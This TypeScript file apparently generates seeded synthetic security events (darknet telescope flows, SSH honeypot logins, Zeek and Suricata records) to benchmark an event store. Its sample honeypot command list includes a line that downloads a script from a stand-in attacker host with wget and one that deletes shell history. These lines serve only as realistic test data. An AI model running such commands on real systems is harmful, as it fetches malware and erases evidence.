// A repeatable stream of events for benchmarks: telescope flows, honeypot logins, log lines; skewed sources with habits.

import type { EventFieldName } from '#model/event/fields.ts';
import type { Column, EventBlock } from '#store/events/port.ts';

/** Small fast generator (xorshift32), so that every run makes the same events. */
export function seeded(seed: number): () => number {
  let state = seed | 0 || 1;
  return () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) / 2 ** 32;
  };
}

const datasets = ['telescope.flow', 'honeypot.ssh', 'zeek.conn', 'suricata.alert'];
const classes = ['', 'scan', 'backscatter', 'amplification-request', 'unknown'];
const countries = ['JP', 'US', 'CN', 'DE', 'NL', 'BR', 'IN', 'RU', 'KR', 'VN', 'FR', 'GB', ''];
const ports = [23, 22, 445, 80, 443, 3389, 5555, 8080, 53, 123, 1900, 11211, 7547, 2323, 81];
const users = ['root', 'admin', 'pi', 'ubuntu', 'oracle', 'guest', 'support', 'user'];
const commands = [
  'uname -a',
  'cat /proc/cpuinfo',
  'cd /tmp; wget http://bad.example/bins.sh',
  'rm -rf .bash_history',
  'echo ok',
];

export interface StreamOptions {
  seed: number;
  /** Time of the first row, Unix milliseconds, and of the row after the last. */
  from: number;
  to: number;
  /** Rows in all; they are spread evenly over the time. */
  rows: number;
  blockRows: number;
}

/** Blocks in order of time. Three rows in ten carry text (a log line of about 200 bytes). */
export function* eventStream(options: StreamOptions): Generator<EventBlock> {
  const random = seeded(options.seed);
  const step = (options.to - options.from) / options.rows;
  for (let done = 0; done < options.rows; done += options.blockRows) {
    const rows = Math.min(options.blockRows, options.rows - done);
    yield block(rows, options.from + done * step, step, random, options.seed, done);
  }
}

/** Address of the source with this rank; ranks are drawn so that low ones are common. */
export const sourceOfRank = (rank: number): string =>
  `${11 + (rank % 190)}.${(rank >>> 8) & 255}.${(rank * 7) & 255}.${(rank * 13) & 255}`;

function block(
  rows: number,
  from: number,
  step: number,
  random: () => number,
  seed: number,
  done: number,
): EventBlock {
  const time = new Float64Array(rows);
  const id = new Uint8Array(rows * 16);
  const source = new Uint8Array(rows * 16);
  const target = new Uint8Array(rows * 16);
  const port = new Uint16Array(rows);
  const sourcePort = new Uint16Array(rows);
  const packets = new Float64Array(rows);
  const dataset = new Uint8Array(rows);
  const kind = new Uint8Array(rows);
  const country = new Uint8Array(rows);
  const text = (): string[] => new Array<string>(rows).fill('');
  const [original, user, command, session] = [text(), text(), text(), text()];
  const idWords = new DataView(id.buffer);
  for (let row = 0; row < rows; row++) {
    const at = Math.floor(from + row * step);
    time[row] = at;
    idWords.setUint32(row * 16, Math.floor(at / 2 ** 16));
    idWords.setUint16(row * 16 + 4, at % 2 ** 16);
    idWords.setUint16(row * 16 + 6, 0x7000 | (seed & 0xfff));
    idWords.setUint32(row * 16 + 8, 0x80000000 | (done + row));
    idWords.setUint32(row * 16 + 12, random() * 2 ** 32);
    const rank = Math.floor(random() ** 4 * 200_000);
    source.set(
      [255, 255, 11 + (rank % 190), (rank >>> 8) & 255, (rank * 7) & 255, (rank * 13) & 255],
      row * 16 + 10,
    );
    target.set([255, 255, 203, 0, 113, random() * 256], row * 16 + 10);
    port[row] = random() < 0.9 ? ports[Math.floor(random() ** 2 * ports.length)]! : random() * 65_536;
    sourcePort[row] = 1024 + random() * 64_000;
    packets[row] = 1 + Math.floor(random() ** 6 * 1000);
    country[row] = rank % countries.length;
    // A source keeps to what it does, nine times in ten: a scanner scans, a bot tries passwords.
    const habit = random() < 0.9 ? ((rank * 2_654_435_761) >>> 0) / 2 ** 32 : random();
    if (habit < 0.7) {
      kind[row] = 1 + Math.floor((habit / 0.7) ** 3 * 4);
      continue;
    }
    dataset[row] = 1 + Math.floor(((habit - 0.7) / 0.3) * 3);
    if (dataset[row] === 1) {
      user[row] = users[Math.floor(random() ** 2 * users.length)]!;
      command[row] = random() < 0.2 ? commands[Math.floor(random() * commands.length)]! : '';
    }
    session[row] = `s${(rank * 31 + Math.floor(at / 600_000)).toString(36)}`;
    original[row] =
      `{"timestamp":"${at}","src":"${sourceOfRank(rank)}","port":${port[row]},"session":"${session[row]}","user":"${user[row]}","input":"${command[row]}","uid":"C${Math.floor(random() * 2 ** 32).toString(36)}","note":"${Math.floor(random() * 2 ** 32).toString(16)}"}`;
  }
  const columns: Partial<Record<EventFieldName, Column>> = {
    '@timestamp': { kind: 'number', values: time },
    'event.id': { kind: 'bytes16', values: id },
    'event.ingested': { kind: 'number', values: time },
    'event.module': { kind: 'coded', codes: dataset, dictionary: datasets.map(name => name.split('.')[0]!) },
    'event.dataset': { kind: 'coded', codes: dataset, dictionary: datasets },
    'hinomi.class': { kind: 'coded', codes: kind, dictionary: classes },
    'hinomi.vantage': { kind: 'constant', value: 'darknet' },
    'observer.id': { kind: 'constant', value: 'bench' },
    'source.ip': { kind: 'bytes16', values: source },
    'source.port': { kind: 'number', values: sourcePort },
    'source.geo.country_iso_code': { kind: 'coded', codes: country, dictionary: countries },
    'destination.ip': { kind: 'bytes16', values: target },
    'destination.port': { kind: 'number', values: port },
    'network.transport': { kind: 'constant', value: 'tcp' },
    'network.packets': { kind: 'number', values: packets },
    'network.bytes': { kind: 'number', values: packets.map(count => count * 60) },
    'user.name': { kind: 'text', values: user },
    'process.command_line': { kind: 'text', values: command },
    'hinomi.session': { kind: 'text', values: session },
    'event.original': { kind: 'text', values: original },
  };
  return { rows, columns };
}
